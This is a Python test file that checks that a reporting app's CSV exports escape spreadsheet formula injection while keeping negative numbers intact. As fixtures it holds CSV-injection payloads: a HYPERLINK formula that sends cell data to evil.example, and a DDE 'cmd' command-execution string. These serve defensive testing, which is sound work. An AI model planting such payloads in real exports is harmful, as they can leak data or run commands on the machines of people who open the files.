"""CSV injection (issue #14, item 14): every CSV we write neutralises text cells that a
spreadsheet would run as a formula (``= + - @``, TAB, CR first) with a leading ``'``;
numbers, also negative ones, stay numbers. Files are downloaded through the real routes
and read back with the csv module (the per-record CSV on SQLite and, with
TEST_DATABASE_URL, on PostgreSQL's COPY path)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

from app.csvsafe import safe_cell, safe_dict_writer, safe_writer
from app.db import commit, db
from app.reporting import records, records_csv
from app.reporting.exports import csv_chunks
from app.reporting.periods import Period
from tests.conftest import bearer
from tests.reporting.conftest import ledger, people, seeded  # noqa: F401 - fixtures

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klikk")', "+47 1+1", "-2+3",
            "@SUM(A1:A9)", "\tTAB", "\r=1"]
PERIOD = Period(date(2025, 1, 1), date(2026, 12, 31))


def test_safe_cell_neutralises_text_and_keeps_numbers():
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Asker kommune") == "Asker kommune"
    assert safe_cell("") == "" and safe_cell(None) is None
    assert safe_cell(-3) == -3 and safe_cell(-1.5) == -1.5
    assert safe_cell("-31.500", numeric=True) == "-31.500"
    buffer = io.StringIO()
    safe_writer(buffer).writerow(["=1+1", -3, "ok"])
    safe_dict_writer(buffer, ["a", "b"]).writerow({"a": "@x", "b": -2})
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "-3", "ok"],
                                                                 ["'@x", "-2"]]


def _rows(response, delimiter=","):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")),
                           delimiter=delimiter))


def test_record_csv_download_neutralises_reasons_and_districts(ledger, people, auth,  # noqa: F811
                                                               client):
    for day, reason in enumerate(FORMULAS, start=1):
        record = ledger.handover(at=datetime(2026, 2, day, 10, tzinfo=UTC), kg="31.500",
                                 district="=cmd|' /C calc'!A0")
        ledger.reverse(record, reason=reason)
    ledger.handover(at=datetime(2026, 3, 2, 10, tzinfo=UTC), kg="1.000")  # a plain row
    commit()
    auth.login(people.officer.email)
    for fmt, delimiter in (("csv", ","), ("csv_excel", ";")):
        rows = _rows(client.get(f"/reporting/download?table=records&format={fmt}"
                                "&from=2026-01-01&to=2026-12-31"), delimiter)
        header, body = rows[0], rows[1:]
        reason = header.index("reason" if fmt == "csv" else "Begrunnelse")
        district = header.index("district" if fmt == "csv" else "Bydel")
        kg = header.index("kg" if fmt == "csv" else "Kg")
        # the ledger strips reasons: "\tTAB" is stored as "TAB", "\r=1" as "=1"
        assert sorted(r[reason] for r in body if r[reason]) == sorted(
            ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klikk\")", "'+47 1+1", "'-2+3",
             "'@SUM(A1:A9)", "TAB", "'=1"])
        assert {r[district] for r in body} == {"'=cmd|' /C calc'!A0", "Heggedal"}
        negative = "-31.500" if fmt == "csv" else "-31,500"
        assert sum(r[kg] == negative for r in body) == len(FORMULAS)  # data, not escaped
        for row in body:
            assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
    # the fast paths (batch and per line) and the typed export give the same bytes
    for excel in (False, True):
        fast = "".join(records_csv.csv_stream(db.session, PERIOD, excel))
        typed = "".join(csv_chunks(records.records_table(db.session, PERIOD), excel))
        assert fast == typed


def test_organisation_names_in_the_report_csv_are_neutralised(ledger, people, client):  # noqa: F811
    people.orgs["business"].name = '=HYPERLINK("http://evil.example","Bedrift")'
    commit()
    ledger.handover(at=datetime(2026, 2, 1, 10, tzinfo=UTC))
    response = client.get("/api/v1/reports/reuse?from=2026-01-01&to=2026-12-31"
                          "&group_by=organization&format=csv",
                          headers=bearer(people.tokens["officer"]))
    rows = _rows(response)
    label = rows[0].index("label")
    name = rows[1][label]
    assert name.startswith('\'=HYPERLINK("http://evil.example","Bedrift") (')
    assert not any(cell.startswith("=") for row in rows for cell in row)


def test_district_table_and_open_data_csv_are_neutralised(ledger, people, auth, client):  # noqa: F811
    for day in range(1, 6):  # enough records that open data does not suppress the cell
        ledger.handover(at=datetime(2026, 2, day, 10, tzinfo=UTC), district="@SUM(1+1)")
    auth.login(people.officer.email)
    rows = _rows(client.get("/reporting/download?table=district&format=csv"
                            "&from=2026-01-01&to=2026-12-31"))
    assert "'@SUM(1+1)" in [cell for row in rows for cell in row]
    assert "@SUM(1+1)" not in [cell for row in rows for cell in row]
    rows = _rows(client.get("/open-data/reuse-district.csv"))
    cells = [row[1] for row in rows[1:]]
    assert "'@SUM(1+1)" in cells and "@SUM(1+1)" not in cells
